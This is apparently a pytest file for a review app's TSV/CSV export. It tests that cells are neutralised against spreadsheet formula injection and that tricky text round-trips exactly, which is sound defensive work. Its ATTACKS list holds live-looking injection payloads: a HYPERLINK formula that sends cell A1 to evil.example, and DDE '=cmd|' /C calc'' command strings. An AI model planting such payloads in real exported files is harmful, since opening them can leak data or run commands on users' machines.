"""Spreadsheet-bound output: one writer, no live formulas, and an exact round trip of any text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from review_app.cli import main
from review_app.formats import Unit, read_units, write_units
from review_app.formats.sheet import sheet_text
from review_app.review.importer import import_document
from review_app.store import Store
from review_app.text.cells import FORMULA_TRIGGERS, neutralize_cell, unneutralize_cell
from tests.people import OP

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
TRICKY = [
    "lone\rcarriage return",
    "CRLF\r\ninside",
    "LF\ninside",
    "tab\tinside",
    'quote " inside',
    '"starts with a quote',
    "'=already quoted",
    "''double",
    "x" * 131_073,
    "\r",
    "ends with CR\r",
    "\u202eRTL override and e\u0301 combining",
]


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_any_text_round_trips_through_tabular_formats(fmt: str, tmp_path: Path) -> None:
    units = [Unit(id=str(i), source=text, mt=text[::-1] or "x") for i, text in enumerate(TRICKY + ATTACKS, 1)]
    path = tmp_path / f"out.{fmt}"
    write_units(path, units)
    back = list(read_units(path))
    assert [(u.source, u.mt) for u in back] == [(u.source, u.mt) for u in units]


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_convert_round_trips_lone_cr_and_long_cells(fmt: str, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    units = [Unit(id=str(i), mt=text) for i, text in enumerate(TRICKY, 1)]
    src = tmp_path / "in.jsonl"
    write_units(src, units)
    middle, back = tmp_path / f"mid.{fmt}", tmp_path / "back.jsonl"
    assert main(["convert", str(src), str(middle)]) == 0
    assert main(["convert", str(middle), str(back)]) == 0, capsys.readouterr().err
    assert [u.mt for u in read_units(back)] == [u.mt for u in units]


def test_no_written_cell_starts_a_formula() -> None:
    table = sheet_text(["a", "b"], [[attack, "ok"] for attack in ATTACKS])
    rows = list(csv.reader(io.StringIO(table, newline=""), delimiter="\t"))
    assert len(rows) == len(ATTACKS) + 1
    for row, attack in zip(rows[1:], ATTACKS, strict=True):
        assert row[0] == "'" + attack and row[0][0] not in FORMULA_TRIGGERS
        assert unneutralize_cell(row[0]) == attack
    for text in TRICKY:
        assert unneutralize_cell(neutralize_cell(text)) == text


def test_qa_report_tsv_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "r.db"
    store = Store(str(db))
    project = store.create_project("P", "de", "en", actor=OP)
    mt = '=HYPERLINK("http://evil.example","x")  with  double spaces.'
    import_document(store, project.id, name="d", mt_text=mt, ref_text="A reference.", segmented=True, actor=OP)
    payload = store.qa_report_bytes([d.id for d in store.documents(project.id)], "tsv").decode("utf-8")
    store.close()
    rows = list(csv.DictReader(io.StringIO(payload, newline=""), delimiter="\t"))
    assert rows, "the import found the double spaces"
    for row in rows:
        for value in row.values():
            assert value[:1] not in FORMULA_TRIGGERS, row
        assert row["mt"] == "'" + mt
    out = tmp_path / "report.tsv"
    assert main(["export", "--db", str(db), "--project", "P", "--report", "tsv", "-o", str(out)]) == 0
    assert out.read_text(encoding="utf-8") == payload
